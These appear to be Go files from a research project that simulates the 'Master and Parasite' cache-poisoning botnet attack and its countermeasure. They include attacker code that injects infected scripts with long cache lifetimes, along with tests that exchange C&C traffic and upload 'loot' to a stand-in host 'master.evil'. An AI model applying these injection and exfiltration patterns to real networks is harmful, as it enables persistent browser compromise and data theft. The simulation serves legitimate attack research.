	_ "masterparasite/internal/experiments" // self-registers fleet/*
	"masterparasite/internal/runner"
)

const (
	lans = 64
	bots = 1563 // 64 × 1563 = 100 032 bots
)

// render regenerates fleet/infection-curve on a pool of the given
// width and returns the rendered bytes plus the manifest fingerprint.
func render(workers int) ([]byte, string) {
	spec, ok := artifact.Get("fleet/infection-curve")
	if !ok {
		log.Fatal("fleet/infection-curve not registered")
	}
	renderer, err := artifact.RendererFor("text")
	if err != nil {
		log.Fatal(err)
	}
	pool := runner.New(workers)
	res, rendered, err := artifact.RunRendered(spec, pool, map[string]int{"lans": lans, "bots": bots}, renderer)
	if err != nil {
		log.Fatal(err)
	}
	manifest := artifact.NewManifest(renderer.Format(), pool.Workers())
	manifest.Add(spec, res, rendered)
	return rendered, manifest.Artifacts[0].SHA256
}

func main() {
	// 1. The same 10⁵-bot fleet at 1 and 8 shard workers. Worker count
	//    sizes the pool draining the 65 shards each window — it must
	//    never change a rendered byte.
	fmt.Printf("rendering fleet/infection-curve for %d bots (%d LANs × %d)...\n\n", lans*bots, lans, bots)
	seq, seqPrint := render(1)
	par, parPrint := render(8)
	fmt.Printf("-parallel 1 manifest: sha256:%.16s...\n", seqPrint)
	fmt.Printf("-parallel 8 manifest: sha256:%.16s...\n", parPrint)
	if seqPrint != parPrint || string(seq) != string(par) {
		log.Fatal("DIVERGED — the window protocol's determinism contract is broken")
	}
	fmt.Println("manifest diff: identical — 8 shard workers changed nothing but wall clock")

	// 2. The same topology through the fleet generator directly, to
	//    read the fabric's parallel structure. Every stat is
	//    deterministic; CriticalPath is what a perfectly scheduled
	//    8-core machine must still execute in sequence.
	fleet, err := core.NewFleet(core.FleetConfig{
		LANs: lans, BotsPerLAN: bots,
		Seed: runner.Seed(211, "infection-curve"), // the artifact's own seed
	})
	if err != nil {
		log.Fatal(err)
	}
	result, err := fleet.Run(8)
	if err != nil {
		log.Fatal(err)
	}
	st := fleet.Fabric().Stats()
	fmt.Printf("\nfabric stats at 8 workers: %d windows, %d events, %d boundary crossings\n",
		st.Windows, st.Events, st.Boundary)
	fmt.Printf("critical path: %d events → %.2fx parallel slack over a 1-worker drain\n",
		st.CriticalPath, float64(st.Events)/float64(st.CriticalPath))
	fmt.Printf("kill chain: %d/%d infected, all %d registered and commanded\n",
		result.Infected, result.Bots, result.Commanded)

	// 3. The curve itself: infected population vs. virtual time.
	fmt.Printf("\n%s", seq)
}
