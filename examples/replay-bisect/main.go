// Replay-bisect: pinpoint a behavioural change by its first divergent
// wire event.
//
// We record the scripted kill chain (the same Table I-style run the
// "replay" artifact verifies), re-run it against the recording to show
// the divergence fingerprint reproduces bit-for-bit, then perturb one
// knob — the genuine server answers 3 ms slower — and let the checker
// name the exact event where behaviour first changed, with a
// before/after field diff. That index is the bisection answer: every
// event before it is identical, so whatever changed acts there.
//
//	go run ./examples/replay-bisect
package main

import (
	"fmt"
	"log"
	"time"

	"masterparasite/internal/experiments"
	"masterparasite/internal/replay"
)

func main() {
	// 1. Record the baseline: every frame send, delivery, drop, TCP
	//    segment, and C&C exchange, in one canonical stream.
	rec := replay.NewRecorder(nil)
	if err := experiments.RunKillChain(experiments.KillChainOpts{Seed: 97}, rec, nil); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("recorded kill chain: %d events (%d sends, %d C&C exchanges)\n",
		rec.Count(), rec.CountKind(replay.KindSend), rec.CountKind(replay.KindCNC))
	fmt.Printf("fingerprint: %s\n\n", rec.Fingerprint())

	// 2. Re-run, checking live against the recording. Determinism means
	//    a clean pass — same seed, same events, same fingerprint.
	chk := replay.NewChecker(rec.Events())
	if err := experiments.RunKillChain(experiments.KillChainOpts{Seed: 97}, nil, chk); err != nil {
		log.Fatal(err)
	}
	if d := chk.Finish(); d != nil {
		log.Fatalf("identical re-run diverged!?\n%s", d)
	}
	fmt.Println("re-run against the recording: PASS (all events identical)")

	// 3. Stub-driven replay at 8× time compression: the recorded sends
	//    are re-injected at t/8 with the outbound legs stubbed out, and
	//    the send-level stream still reproduces exactly.
	res, err := replay.NewReplayer(rec.Events()).Drive(replay.DriveOptions{TimeDiv: 8})
	if err != nil {
		log.Fatal(err)
	}
	if res.Divergence != nil {
		log.Fatalf("compressed replay diverged!?\n%s", res.Divergence)
	}
	fmt.Println("8x compressed stub replay:     PASS (send stream reproduced)")

	// 4. Now the bisection: something changed — here, the genuine web
	//    server got 3 ms slower. Which wire event does it first affect?
	chk = replay.NewChecker(rec.Events())
	err = experiments.RunKillChain(
		experiments.KillChainOpts{Seed: 97, ServerDelay: 15 * time.Millisecond}, nil, chk)
	if err != nil {
		log.Fatal(err)
	}
	div := chk.Finish()
	if div == nil {
		log.Fatal("perturbed run did not diverge!?")
	}
	fmt.Printf("\nperturbed run (server 12ms → 15ms):\n%s\n", div)
	fmt.Printf("\nevents 0..%d are identical — the change acts at event #%d\n",
		div.Index-1, div.Index)
}
