module masterparasite

go 1.22
