package proxycache

import (
	"strings"
	"testing"

	"masterparasite/internal/httpsim"
	"masterparasite/internal/script"
)

func infectedResponse() *httpsim.Response {
	body := script.Embed([]byte("function lib(){}"), "parasite", "p1")
	resp := httpsim.NewResponse(200, body)
	resp.Header.Set("Cache-Control", "public, max-age=31536000")
	return resp
}

func TestTableIVPopulation(t *testing.T) {
	devs := Devices()
	if len(devs) != 23 {
		t.Fatalf("devices = %d, want 23 rows", len(devs))
	}
	byInstance := make(map[string]Device)
	locations := make(map[string]int)
	for _, d := range devs {
		byInstance[d.Instance] = d
		locations[d.Location]++
	}
	if len(locations) != 3 {
		t.Fatalf("locations = %v", locations)
	}
	// Spot-check cells against the paper.
	if d := byInstance["Squid"]; d.HTTP != Enabled || d.HTTPS != Optional {
		t.Fatalf("Squid = %+v", d)
	}
	if d := byInstance["Barracuda Web Filter"]; d.HTTPS != No {
		t.Fatalf("Barracuda = %+v", d)
	}
	if d := byInstance["CDNs"]; d.HTTP != Enabled || d.HTTPS != Enabled {
		t.Fatalf("CDNs = %+v", d)
	}
	if d := byInstance["LTE Network"]; d.HTTP != ArchModel || d.HTTPS != No {
		t.Fatalf("LTE = %+v", d)
	}
	if d := byInstance["Browser Cache Desktop"]; d.Shared {
		t.Fatal("browser cache marked shared")
	}
}

func TestSupportSemantics(t *testing.T) {
	if !Enabled.Vulnerable() || !Optional.Vulnerable() || !ArchModel.Vulnerable() {
		t.Fatal("cache-capable support levels must be vulnerable")
	}
	if No.Vulnerable() {
		t.Fatal("unsupported caching cannot be vulnerable")
	}
	for s, sym := range map[Support]string{Enabled: "●", Optional: "◐", No: "×", ArchModel: "‡", Support(0): "?"} {
		if s.Symbol() != sym {
			t.Errorf("symbol(%d) = %q", s, s.Symbol())
		}
	}
}

func TestSharedCacheServesSecondClient(t *testing.T) {
	cache := NewSharedCache("squid", 1<<20, false, nil)
	res := RunInfection(cache, infectedResponse(), 10)
	if res.VictimsServed != 10 {
		t.Fatalf("victims served = %d, want 10 (shared cache infects everyone)", res.VictimsServed)
	}
	if res.OriginFetches != 1 {
		t.Fatalf("origin fetches = %d, want 1 (patient zero only)", res.OriginFetches)
	}
}

func TestIsolatedCacheContainsInfection(t *testing.T) {
	// The §VI-B2 countermeasure: per-client isolation stops cross-client
	// infection, at the cost of per-client origin fetches.
	cache := NewSharedCache("isolated-squid", 1<<20, true, nil)
	res := RunInfection(cache, infectedResponse(), 10)
	if res.VictimsServed != 0 {
		t.Fatalf("victims served = %d, want 0 under isolation", res.VictimsServed)
	}
	if res.OriginFetches != 11 {
		t.Fatalf("origin fetches = %d, want 11 (performance cost)", res.OriginFetches)
	}
}

func TestCacheHitHeaders(t *testing.T) {
	cache := NewSharedCache("cdn-edge", 1<<20, false, nil)
	origin := func(*httpsim.Request) *httpsim.Response {
		r := httpsim.NewResponse(200, []byte("x"))
		r.Header.Set("Cache-Control", "max-age=60")
		return r
	}
	req := httpsim.NewRequest("GET", "a.com", "/o")
	first := cache.Handle("c1", req, origin)
	second := cache.Handle("c2", req, origin)
	if !strings.Contains(first.Header.Get("X-Cache"), "MISS") {
		t.Fatalf("first = %q", first.Header.Get("X-Cache"))
	}
	if !strings.Contains(second.Header.Get("X-Cache"), "HIT") {
		t.Fatalf("second = %q", second.Header.Get("X-Cache"))
	}
	if cache.Hits() != 1 || cache.Forwarded() != 1 {
		t.Fatalf("hits=%d fwd=%d", cache.Hits(), cache.Forwarded())
	}
}

func TestPrivateResponsesNotShared(t *testing.T) {
	cache := NewSharedCache("proxy", 1<<20, false, nil)
	origin := func(*httpsim.Request) *httpsim.Response {
		r := httpsim.NewResponse(200, []byte("account data"))
		r.Header.Set("Cache-Control", "private, max-age=600")
		return r
	}
	req := httpsim.NewRequest("GET", "bank.com", "/account")
	cache.Handle("alice", req, origin)
	resp := cache.Handle("bob", req, origin)
	if strings.Contains(resp.Header.Get("X-Cache"), "HIT") {
		t.Fatal("private response served from shared cache")
	}
}

func TestNoStoreNotCached(t *testing.T) {
	cache := NewSharedCache("proxy", 1<<20, false, nil)
	origin := func(*httpsim.Request) *httpsim.Response {
		r := httpsim.NewResponse(200, []byte("x"))
		r.Header.Set("Cache-Control", "no-store")
		return r
	}
	req := httpsim.NewRequest("GET", "a.com", "/o")
	cache.Handle("c1", req, origin)
	if cache.Len() != 0 {
		t.Fatal("no-store response cached")
	}
}

func TestFlush(t *testing.T) {
	cache := NewSharedCache("proxy", 1<<20, false, nil)
	RunInfection(cache, infectedResponse(), 1)
	if cache.Len() == 0 {
		t.Fatal("nothing cached")
	}
	cache.Flush()
	if cache.Len() != 0 {
		t.Fatal("flush failed")
	}
}

func TestNilOriginBecomes502(t *testing.T) {
	cache := NewSharedCache("proxy", 1<<20, false, nil)
	resp := cache.Handle("c", httpsim.NewRequest("GET", "a.com", "/"), func(*httpsim.Request) *httpsim.Response { return nil })
	if resp.StatusCode != 502 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}

func TestVulnerableDeviceCount(t *testing.T) {
	// Every device with any HTTP caching capability is usable by the
	// attack; the paper's conclusion is that all network HTTP(S) caches
	// are vulnerable by design.
	vulnerable := 0
	for _, d := range Devices() {
		if d.HTTP.Vulnerable() {
			vulnerable++
		}
	}
	if vulnerable != len(Devices()) {
		t.Fatalf("vulnerable = %d of %d; every Table IV row has an HTTP-capable cell", vulnerable, len(Devices()))
	}
}
