// Package proxycache models the network caches of Table IV: the taxonomy
// of cache devices between victim and origin (transparent proxies, web
// filters, firewalls, CDN reverse proxies, ISP and mobile caches) and a
// functional shared-cache simulation demonstrating the paper's §VI-B2
// propagation-between-devices result: "If the entry for a client in the
// cache is infected, it automatically affects all other clients connected
// to the cache."
package proxycache

import (
	"time"

	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
)

// Support is one cell of Table IV.
type Support int

// Support levels, matching the paper's legend.
const (
	// Enabled: caching enabled by default (filled circle).
	Enabled Support = iota + 1
	// Optional: caching supported but off by default (half circle).
	Optional
	// No: not supported (×).
	No
	// ArchModel: supported by the architecture model but not publicly
	// documented or implementation-dependent (‡).
	ArchModel
)

// Symbol renders the Table IV legend mark.
func (s Support) Symbol() string {
	switch s {
	case Enabled:
		return "●"
	case Optional:
		return "◐"
	case No:
		return "×"
	case ArchModel:
		return "‡"
	default:
		return "?"
	}
}

// Vulnerable reports whether the parasite can use the cache at all.
func (s Support) Vulnerable() bool { return s == Enabled || s == Optional || s == ArchModel }

// Device is one Table IV row.
type Device struct {
	Location string
	Type     string
	Instance string
	HTTP     Support
	HTTPS    Support
	Comment  string
	// Shared reports whether multiple clients share entries (true for
	// every network cache; the isolation countermeasure would break it).
	Shared bool
}

// Table IV location groups.
const (
	LocVictimHost    = "Caches on Victim Host"
	LocVictimNetwork = "Caches on Victim Network"
	LocRemote        = "Remote Caches - Backbone and Server-Side"
)

// Devices returns the Table IV population.
func Devices() []Device {
	return []Device{
		{LocVictimHost, "Client-internal Caches", "Browser Cache Desktop", Enabled, Enabled, "", false},
		{LocVictimHost, "Client-internal Caches", "Browser Cache Smartphones", Enabled, Enabled, "", false},
		{LocVictimNetwork, "Transparent Proxy", "Squid", Enabled, Optional, "", true},
		{LocVictimNetwork, "Web Filter", "Cisco Web Security Appliance", Enabled, Optional, "AsyncOS 9.1.1", true},
		{LocVictimNetwork, "Web Filter", "McAfee Web Gateway", Enabled, Optional, "", true},
		{LocVictimNetwork, "Web Filter", "Citrix NetScaler", Enabled, ArchModel, "", true},
		{LocVictimNetwork, "Web Filter", "Barracuda Web Filter", Enabled, No, "", true},
		{LocVictimNetwork, "Web Filter", "Blue Coat ProxySG", Enabled, No, "", true},
		{LocVictimNetwork, "Firewall", "Sophos UTM", Optional, Optional, "community-documented", true},
		{LocVictimNetwork, "Firewall", "Fortigate", Enabled, Optional, "", true},
		{LocVictimNetwork, "Firewall", "Barracuda F-Series", Optional, No, "", true},
		{LocVictimNetwork, "Firewall", "Cisco ASA", Optional, No, "via redirect", true},
		{LocVictimNetwork, "Firewall", "pfSense", Optional, No, "via squid module", true},
		{LocVictimNetwork, "Transport", "Airplanes", Enabled, ArchModel, "", true},
		{LocVictimNetwork, "Transport", "(Cruise) Vessels", Enabled, ArchModel, "", true},
		{LocRemote, "Reverse Proxies / HTTP Accelerators", "CDNs", Enabled, Enabled, "", true},
		{LocRemote, "Reverse Proxies / HTTP Accelerators", "Varnish HTTP Cache", Enabled, Optional, "with separate SSL offloader", true},
		{LocRemote, "Reverse Proxies / HTTP Accelerators", "F5 Big-IP WebAccelerator", Enabled, Optional, "with separate SSL offloader", true},
		{LocRemote, "Reverse Proxies / HTTP Accelerators", "SiteCelerate", Enabled, Optional, "with separate SSL offloader", true},
		{LocRemote, "Web Application Firewall", "GoDaddy WAF", Enabled, ArchModel, "", true},
		{LocRemote, "ISP", "CacheMara", Enabled, No, "", true},
		{LocRemote, "Mobile Network", "LTE Network", ArchModel, No, "", true},
		{LocRemote, "Mobile Network", "5G Networks", ArchModel, No, "with MEC", true},
	}
}

// SharedCache is a functional network cache shared by many clients (the
// Squid / CDN / web-filter model). It implements the caching-proxy data
// path so the infection experiment runs through real code.
type SharedCache struct {
	name  string
	store *httpcache.Store
	// isolated keys entries per client — the §VI-B2 countermeasure
	// ("an isolation can be applied in the cache per client, which
	// however would harm performance").
	isolated bool

	now       func() time.Duration
	forwarded int
	hits      int
}

// NewSharedCache builds a proxy cache with the given byte capacity.
func NewSharedCache(name string, capacity int64, isolated bool, now func() time.Duration) *SharedCache {
	if now == nil {
		now = func() time.Duration { return 0 }
	}
	return &SharedCache{
		name:     name,
		store:    httpcache.NewStore(httpcache.Options{Capacity: capacity, Partitioned: isolated}),
		isolated: isolated,
		now:      now,
	}
}

// Name returns the device name.
func (c *SharedCache) Name() string { return c.name }

// Forwarded counts origin fetches; Hits counts cache serves.
func (c *SharedCache) Forwarded() int { return c.forwarded }

// Hits counts cache serves.
func (c *SharedCache) Hits() int { return c.hits }

// Len exposes entry count.
func (c *SharedCache) Len() int { return c.store.Len() }

// Handle processes one client request through the cache: serve from the
// shared store when fresh, otherwise forward to origin and cache the
// response. clientID only matters under per-client isolation.
func (c *SharedCache) Handle(clientID string, req *httpsim.Request, origin httpsim.HandlerFunc) *httpsim.Response {
	url := req.URL()
	partition := ""
	if c.isolated {
		partition = clientID
	}
	if e, ok := c.store.GetFresh(c.now(), partition, url); ok {
		c.hits++
		resp := e.ToResponse()
		resp.Header.Set("X-Cache", "HIT from "+c.name)
		return resp
	}
	c.forwarded++
	resp := origin(req)
	if resp == nil {
		return httpsim.NewResponse(502, nil)
	}
	host := req.Host
	if e := httpcache.EntryFromResponse(c.now(), url, host, resp); e != nil {
		cc := httpcache.ParseCacheControl(resp.Header.Get("Cache-Control"))
		if !cc.Private { // shared caches must not store private responses
			c.store.Put(partition, e)
		}
	}
	out := httpsim.NewResponse(resp.StatusCode, append([]byte(nil), resp.Body...))
	out.Header = resp.Header.Clone()
	out.Header.Set("X-Cache", "MISS from "+c.name)
	return out
}

// Flush clears the cache.
func (c *SharedCache) Flush() { c.store.Clear() }

// InfectionResult summarises one shared-cache infection experiment.
type InfectionResult struct {
	Device        string
	Isolated      bool
	VictimsServed int // clients that received the parasite from the cache
	OriginFetches int
}

// RunInfection demonstrates §VI-B2 on a device: client "patient-zero"
// receives an infected response (the origin function stands in for the
// master's injection); then n other clients request the same object. The
// result reports how many of them got the parasite out of the cache.
func RunInfection(cache *SharedCache, infected *httpsim.Response, clients int) InfectionResult {
	req := httpsim.NewRequest("GET", "top1.com", "/persistent.js")
	infectedOrigin := func(*httpsim.Request) *httpsim.Response {
		clone := httpsim.NewResponse(infected.StatusCode, append([]byte(nil), infected.Body...))
		clone.Header = infected.Header.Clone()
		return clone
	}
	cleanOrigin := func(*httpsim.Request) *httpsim.Response {
		resp := httpsim.NewResponse(200, []byte("function lib(){}"))
		resp.Header.Set("Cache-Control", "max-age=3600")
		return resp
	}
	// Patient zero: the master injects on this client's connection; the
	// proxy caches what it relays.
	_ = cache.Handle("patient-zero", req, infectedOrigin)

	res := InfectionResult{Device: cache.Name(), Isolated: cache.isolated}
	for i := 0; i < clients; i++ {
		resp := cache.Handle(clientName(i), req, cleanOrigin)
		if string(resp.Body) == string(infected.Body) {
			res.VictimsServed++
		}
	}
	res.OriginFetches = cache.Forwarded()
	return res
}

func clientName(i int) string {
	return "client-" + string(rune('a'+i%26)) + string(rune('0'+i/26%10))
}
