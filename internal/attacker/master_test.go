package attacker

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"masterparasite/internal/cnc"
	"masterparasite/internal/dom"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

func TestBuildInfectedResponseJS(t *testing.T) {
	m := New(netsim.New(), netsim.New().MustSegment("x", 0), 0)
	resp := m.BuildInfectedResponse(&Target{
		Name: "a.com/lib.js", Kind: KindJS,
		ParasitePayload: "p1", Original: []byte("function lib(){}"),
	})
	if !bytes.HasPrefix(resp.Body, []byte("function lib(){}")) {
		t.Fatal("original content not preserved")
	}
	ms := script.Markers(resp.Body)
	if len(ms) != 1 || ms[0].Kind != "parasite" || ms[0].Payload != "p1" {
		t.Fatalf("markers = %v", ms)
	}
	cc := httpcache.ParseCacheControl(resp.Header.Get("Cache-Control"))
	if !cc.HasMaxAge || cc.MaxAge < 360*24*time.Hour {
		t.Fatalf("cache lifetime not maximised: %v", resp.Header.Get("Cache-Control"))
	}
	for _, h := range []string{"Content-Security-Policy", "Strict-Transport-Security", "X-Frame-Options"} {
		if resp.Header.Has(h) {
			t.Fatalf("security header %s present on infected response", h)
		}
	}
}

func TestBuildInfectedResponseHTML(t *testing.T) {
	m := New(netsim.New(), netsim.New().MustSegment("x", 0), 0)
	resp := m.BuildInfectedResponse(&Target{
		Name: "a.com/", Kind: KindHTML,
		ParasitePayload: "p2", Original: []byte("<html><body><h1>x</h1></body></html>"),
	})
	doc := dom.ParseHTML("a.com/", resp.Body)
	scripts := doc.FindByTag("script")
	if len(scripts) != 1 {
		t.Fatalf("scripts in infected HTML = %d", len(scripts))
	}
	ms := script.Markers([]byte(scripts[0].Text))
	if len(ms) != 1 || ms[0].Payload != "p2" {
		t.Fatalf("markers = %v", ms)
	}
	if resp.Header.Get("Content-Type") != "text/html" {
		t.Fatal("wrong content type")
	}
}

// fakeEnv implements just enough of script.Env for behaviour tests.
type fakeEnv struct {
	script.Env // panics if an unexpected method is used
	images     []string
}

func (f *fakeEnv) AddImage(url string, _ func(int, int, bool)) {
	f.images = append(f.images, url)
}

func TestEvictionBehaviorLoadsJunk(t *testing.T) {
	rt := script.NewRuntime()
	RegisterEvictionBehavior(rt)
	env := &fakeEnv{}
	content := script.EmbedHTML(nil, "evict", "attacker.com|5|2048")
	if _, err := rt.Execute(env, content); err != nil {
		t.Fatal(err)
	}
	if len(env.images) != 5 {
		t.Fatalf("junk loads = %d, want 5", len(env.images))
	}
	if !strings.HasPrefix(env.images[0], "attacker.com/junk") {
		t.Fatalf("junk url = %q", env.images[0])
	}
}

func TestEvictionBehaviorBadPayload(t *testing.T) {
	rt := script.NewRuntime()
	RegisterEvictionBehavior(rt)
	content := script.EmbedHTML(nil, "evict", "garbage")
	if _, err := rt.Execute(&fakeEnv{}, content); err == nil {
		t.Fatal("bad eviction payload accepted")
	}
}

func TestCNCAdapterRoundTrip(t *testing.T) {
	m := cnc.NewMasterServer()
	id := m.QueueCommand("bot-9", []byte("hello"))
	h := CNCAdapter(m)

	meta := h(httpsim.NewRequest("GET", "master.evil", "/meta/bot-9.svg"))
	if meta.StatusCode != 200 {
		t.Fatalf("meta status = %d", meta.StatusCode)
	}
	d, err := cnc.ParseSVG(meta.Body)
	if err != nil {
		t.Fatal(err)
	}
	if int(d.W) != id {
		t.Fatalf("meta id = %d, want %d", d.W, id)
	}
	count := int(d.H)
	dims := make([]cnc.Dim, count)
	for seq := 0; seq < count; seq++ {
		img := h(httpsim.NewRequest("GET", "master.evil",
			"/img/bot-9/"+itoa(id)+"/"+itoa(seq)+".svg"))
		dims[seq], err = cnc.ParseSVG(img.Body)
		if err != nil {
			t.Fatal(err)
		}
	}
	data, err := cnc.DecodeDims(dims)
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != "hello" {
		t.Fatalf("decoded %q", data)
	}

	// Upstream path through the adapter.
	chunk := cnc.EncodeURLChunks([]byte("loot"), 0)[0]
	if resp := h(httpsim.NewRequest("GET", "master.evil", "/up/bot-9/s/0/"+chunk)); resp.StatusCode != 200 {
		t.Fatalf("upload status = %d", resp.StatusCode)
	}
	if resp := h(httpsim.NewRequest("GET", "master.evil", "/up/bot-9/s/fin")); resp.StatusCode != 200 {
		t.Fatalf("fin status = %d", resp.StatusCode)
	}
	got, ok := m.Upload("bot-9", "s")
	if !ok || string(got) != "loot" {
		t.Fatalf("upload = %q ok=%v", got, ok)
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	s := ""
	for n > 0 {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return s
}

func TestJunkServer(t *testing.T) {
	n := netsim.New()
	seg := n.MustSegment("net", time.Millisecond)
	srvIfc := seg.MustAttach("atk", 0, nil)
	stack := tcpsim.NewStack(n, srvIfc, tcpsim.WithSeed(3))
	if _, err := NewJunkServer(stack, 80, 1024); err != nil {
		t.Fatal(err)
	}
	cliIfc := seg.MustAttach("cli", 0, nil)
	client := httpsim.NewClient(tcpsim.NewStack(n, cliIfc, tcpsim.WithSeed(4)))
	var got *httpsim.Response
	client.Get("atk", 80, "attacker.com", "/junk001.jpg", func(r *httpsim.Response, err error) { got = r })
	n.Run(0)
	if got == nil || got.StatusCode != 200 || len(got.Body) != 1024 {
		t.Fatalf("junk response = %+v", got)
	}
	var miss *httpsim.Response
	client.Get("atk", 80, "attacker.com", "/other", func(r *httpsim.Response, err error) { miss = r })
	n.Run(0)
	if miss == nil || miss.StatusCode != 404 {
		t.Fatal("non-junk path served")
	}
}

func TestMasterSkipsReloadOriginalRequests(t *testing.T) {
	// The ?t= camouflage request must pass through uninjected, or the
	// page would never recover its genuine functionality (Fig. 2 step 4).
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	srvIfc := seg.MustAttach("server", 5*time.Millisecond, nil)
	serverStack := tcpsim.NewStack(n, srvIfc, tcpsim.WithSeed(5))
	if _, err := httpsim.NewServer(serverStack, 80, func(*httpsim.Request) *httpsim.Response {
		return httpsim.NewResponse(200, []byte("GENUINE"))
	}); err != nil {
		t.Fatal(err)
	}
	m := New(n, seg, 0)
	m.AddTarget(Target{Name: "a.com/x.js", Kind: KindJS, ParasitePayload: "p", Original: []byte("o")})

	cliIfc := seg.MustAttach("client", 0, nil)
	client := httpsim.NewClient(tcpsim.NewStack(n, cliIfc, tcpsim.WithSeed(6)))

	var plain, busted string
	client.Get("server", 80, "a.com", "/x.js", func(r *httpsim.Response, err error) {
		if err == nil {
			plain = string(r.Body)
		}
	})
	client.Get("server", 80, "a.com", "/x.js?t=123", func(r *httpsim.Response, err error) {
		if err == nil {
			busted = string(r.Body)
		}
	})
	n.Run(0)
	if !script.Infected([]byte(plain)) {
		t.Fatalf("plain request not infected: %q", plain)
	}
	if busted != "GENUINE" {
		t.Fatalf("cache-busted request got %q, want the genuine object", busted)
	}
	if m.Stats().Injections != 1 {
		t.Fatalf("injections = %d, want 1", m.Stats().Injections)
	}
	if m.Stats().RequestsSeen != 2 {
		t.Fatalf("requests seen = %d", m.Stats().RequestsSeen)
	}
}

func TestMasterIgnoresSealedWithoutCert(t *testing.T) {
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	m := New(n, seg, 0)
	m.AddTarget(Target{Name: "a.com/x.js", Kind: KindJS, ParasitePayload: "p", Original: []byte("o")})
	// Emit a sealed frame directly onto the segment.
	src := seg.MustAttach("client", 0, nil)
	sealed := httpsim.XORSealer{Key: httpsim.HostKey("a.com")}.Seal(
		httpsim.NewRequest("GET", "a.com", "/x.js").Marshal())
	wire := tcpsim.Segment{SrcPort: 50000, DstPort: 443, Seq: 1, Ack: 1,
		Flags: tcpsim.FlagACK | tcpsim.FlagPSH, Payload: sealed}
	src.Send(netsim.Packet{Dst: "server", Proto: netsim.ProtoTCP, Payload: wire.Marshal()})
	n.Run(0)
	if m.Stats().SealedSkipped != 1 {
		t.Fatalf("sealed skipped = %d", m.Stats().SealedSkipped)
	}
	if m.Stats().Injections != 0 {
		t.Fatal("master injected into ciphertext it could not read")
	}
}

func TestMasterDecryptsWithCert(t *testing.T) {
	n := netsim.New()
	seg := n.MustSegment("wifi", time.Millisecond)
	m := New(n, seg, 0, WithFraudulentCert("a.com"))
	m.AddTarget(Target{Name: "a.com/x.js", Kind: KindJS, ParasitePayload: "p", Original: []byte("o")})
	src := seg.MustAttach("client", 0, nil)
	sealed := httpsim.XORSealer{Key: httpsim.HostKey("a.com")}.Seal(
		httpsim.NewRequest("GET", "a.com", "/x.js").Marshal())
	wire := tcpsim.Segment{SrcPort: 50000, DstPort: 443, Seq: 1, Ack: 1,
		Flags: tcpsim.FlagACK | tcpsim.FlagPSH, Payload: sealed}
	src.Send(netsim.Packet{Dst: "server", Proto: netsim.ProtoTCP, Payload: wire.Marshal()})
	n.Run(0)
	// The tap also observes the master's own injected (sealed) response,
	// so at least one decrypt must be the client request.
	if m.Stats().SealedDecrypted < 1 {
		t.Fatalf("sealed decrypted = %d", m.Stats().SealedDecrypted)
	}
	if m.Stats().Injections != 1 {
		t.Fatalf("injections = %d", m.Stats().Injections)
	}
}

func TestTargetsListing(t *testing.T) {
	m := New(netsim.New(), netsim.New().MustSegment("x", 0), 0)
	m.AddTarget(Target{Name: "a.com/1.js"})
	m.AddTarget(Target{Name: "b.com/2.js"})
	if got := len(m.Targets()); got != 2 {
		t.Fatalf("targets = %d", got)
	}
}

func TestCNCAdapterMirrorsServeHTTPWire(t *testing.T) {
	// The in-simulation adapter and the real-socket handler must put the
	// same status, headers, and body on the wire — the flows artifact's
	// traced frame sizes depend on it.
	m := cnc.NewMasterServer()
	m.QueueCommand("b", []byte("hi"))
	adapter := CNCAdapter(m)
	for _, path := range []string{
		"/meta/b.svg", "/img/b/1/0.svg", "/img/b/1/99.svg",
		"/batch/b/1/0/1.svg", "/up/b/s/0/aGk", "/up/b/s/fin", "/nope",
	} {
		sim := adapter(httpsim.NewRequest("GET", "master.evil", path))
		rec := httptest.NewRecorder()
		m.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, path, nil))
		if sim.StatusCode != rec.Code || !bytes.Equal(sim.Body, rec.Body.Bytes()) {
			t.Fatalf("%s: adapter (%d, %q) != ServeHTTP (%d, %q)",
				path, sim.StatusCode, sim.Body, rec.Code, rec.Body.Bytes())
		}
		for k, vs := range rec.Header() {
			if k == "Content-Length" || k == "Date" {
				continue
			}
			if got := sim.Header.Get(k); len(vs) > 0 && got != vs[0] {
				t.Fatalf("%s: header %s = %q, ServeHTTP %q", path, k, got, vs[0])
			}
		}
	}
}
