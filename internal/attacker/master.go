// Package attacker implements the paper's master: the eavesdropping
// attacker on the victim's network (§III) with its cache-eviction module
// (§IV), its TCP-injection/infection module (§V), the junk-object server
// that the eviction flood loads, and the in-simulation C&C endpoint
// (§VI-C) adapting the cnc package onto httpsim.
package attacker

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"masterparasite/internal/httpcache"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

// ContentKind distinguishes how the parasite is attached (§VI-A).
type ContentKind int

// Content kinds for infection targets.
const (
	KindJS ContentKind = iota + 1
	KindHTML
)

// Target is one object the master wants to infect: a persistent script
// (or HTML page) on a legitimate domain.
type Target struct {
	// Name is the host-qualified path without query ("top1.com/persistent.js").
	Name string
	// Kind selects JS append vs HTML script-tag insertion.
	Kind ContentKind
	// ParasitePayload is the marker payload (the parasite config ID).
	ParasitePayload string
	// Original is the object's genuine content, which the master fetched
	// in advance ("The attacker loads the original object", §VI-A).
	Original []byte
}

// Stats counts master activity.
type Stats struct {
	RequestsSeen    int
	Injections      int
	EvictionScripts int
	SealedSkipped   int
	SealedDecrypted int
}

// Master is the attacker. It taps a network segment, watches HTTP
// requests, and injects spoofed responses.
type Master struct {
	net     *netsim.Network
	sniffer *tcpsim.Sniffer

	targets map[string]*Target

	// eviction configuration
	evictionOn   bool
	evictTrigger map[string]bool // page hosts whose HTML triggers eviction
	junkHost     string
	junkCount    int
	junkSize     int

	certs map[string]bool // fraudulent certificates (§V Discussion)

	stats Stats
}

// Option configures a Master.
type Option func(*Master)

// WithFraudulentCert grants the master a mis-issued certificate for host,
